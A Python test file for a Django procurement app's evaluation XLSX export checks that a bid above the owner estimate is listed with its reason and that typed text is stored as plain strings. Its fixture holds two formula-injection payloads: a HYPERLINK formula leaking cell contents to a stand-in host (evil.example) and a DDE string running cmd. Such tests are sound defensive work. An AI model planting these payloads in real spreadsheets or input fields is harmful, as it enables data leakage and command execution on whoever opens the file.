"""The evaluation as XLSX: it opens for any evaluated tender (a bid above the owner estimate
included), and what people typed cannot run as a formula in whoever's spreadsheet opens it."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pasok import clock
from pasok.accounts.actors import SYSTEM
from pasok.accounts.services import organisation_verify
from pasok.tenders import services
from tests.conftest import PASSWORD
from tests.tenders.test_evaluation_pdf import DEADLINE, OPENING, T0, _bid

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def sheet(client, cluster):
    """The buyer's export of a tender typed to attack, with a bid above the HPS."""
    for org in (cluster.supplier_a, cluster.supplier_b):
        organisation_verify(by=SYSTEM, organisation=org)
    buyer = cluster.users["buyer_x"]
    with clock.frozen(T0):
        tender = services.tender_create(by=buyer, buyer=cluster.buyer_x, title=TITLE,
                                        bid_deadline=DEADLINE, opening_time=OPENING,
                                        required_documents=["NIB"])
        lot = services.lot_add(by=buyer, tender=tender, product=PRODUCT, quantity=10_000,
                               unit_weight_kg=Decimal("11.5"), hps_unit_price=Decimal(120_000))
        services.tender_publish(by=buyer, tender=tender)
        _bid(cluster, "supplier_a", lot, 118_000, 45)
        _bid(cluster, "supplier_b", lot, 130_000, 45)  # above the owner estimate
    with clock.frozen(OPENING):
        services.tender_open(by=buyer, tender=tender)
        services.tender_evaluate(by=buyer, tender=tender)
        assert client.login(email="buyer_x@example.id", password=PASSWORD)
        response = client.get(reverse("tenders:evaluation-xlsx", args=[tender.pk]))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).active


def test_a_bid_above_the_owner_estimate_is_exported_with_its_reason(sheet):
    reasons = [row[11] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert "di atas harga perkiraan sendiri (HPS)" in " ".join(r or "" for r in reasons)


def test_typed_text_is_never_a_formula(sheet):
    title, product = sheet["B1"], sheet["C1"]
    assert title.data_type == "s" and title.value == "'" + TITLE
    assert product.data_type == "s" and product.value == "'" + PRODUCT
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
